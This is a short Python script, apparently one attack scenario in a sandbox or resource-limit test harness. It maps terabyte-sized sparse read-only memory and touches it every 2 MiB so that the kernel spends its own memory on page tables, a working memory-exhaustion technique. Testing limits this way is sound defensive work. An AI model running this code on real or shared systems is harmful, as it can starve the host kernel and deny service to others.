"""Takes the kernel's memory: tables for very many addresses, of which it only reads."""

import mmap

from frame import play

MAP_NORESERVE = 0x4000


def attack():
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_NORESERVE
    taken = []
    for size in (1 << 40, 60 << 30):
        try:
            sparse = mmap.mmap(-1, size, flags=flags, prot=mmap.PROT_READ)
        except OSError:
            continue
        for address in range(0, size, 2 << 20):
            sparse[address]
        taken.append(size)
    return f"took {taken}"


play(attack)
